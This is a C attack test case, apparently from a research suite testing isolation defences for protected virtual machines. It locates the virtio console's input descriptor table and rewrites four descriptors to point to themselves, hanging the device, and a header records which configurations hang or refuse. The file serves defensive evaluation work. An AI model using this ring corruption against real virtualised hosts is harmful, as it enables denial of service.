/*
{
  "title": "A descriptor of the console's input that names itself as the next one, in a write window",
  "precondition": "a write window, as uIO exports it",
  "reference": "Hetzelt et al., VIA: Analyzing Device Interfaces of Protected Virtual Machines, ACSAC 2021; OASIS, Virtual I/O Device (VIRTIO) Version 1.2, 2022",
  "cells": {
    "none": {"outcome": "hung", "rule": "I10"},
    "uio-mpk": {"outcome": "hung", "rule": "I10"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "pks-hardened": "completed"
  , "mpk-bundled": "completed"}
}
*/
#include "attack.h"
#include "processor.h"

enum { INPUT_BYTES = 1024, DEVICE_WRITES = 2 };  // flags: VIRTQ_DESC_F_WRITE (virtio 1.2, section 2.7.5)


// The descriptor table of the console's input; the available ring is behind its 16 entries.
static volatile uint8_t *input_queue(void) {
  for (uint64_t page = ((uint64_t)&count & ~0xfffull) + PAGE; page < 0x400000; page += PAGE) {
    if (!leaf((void *)page)) continue;
    const uint64_t rest = ((volatile uint64_t *)page)[1];
    if ((uint32_t)rest == INPUT_BYTES && (rest >> 32 & 0xffff) == DEVICE_WRITES) return (volatile uint8_t *)page;
  }
  return 0;
}

enum { AVAILABLE_INDEX = 16 * 16 + 2 };

int main(void) {
  GOAL_END();
  BYPASS(
      volatile uint8_t *const queue = input_queue();
      ushell_enable_write();
      for (int at = 0; at < 4; at++) {
        *(volatile uint16_t *)(queue + 16 * at + 12) = DEVICE_WRITES | 1;
        *(volatile uint16_t *)(queue + 16 * at + 14) = (uint16_t)at;
      }
      ushell_disable_write());
  return 0;
}
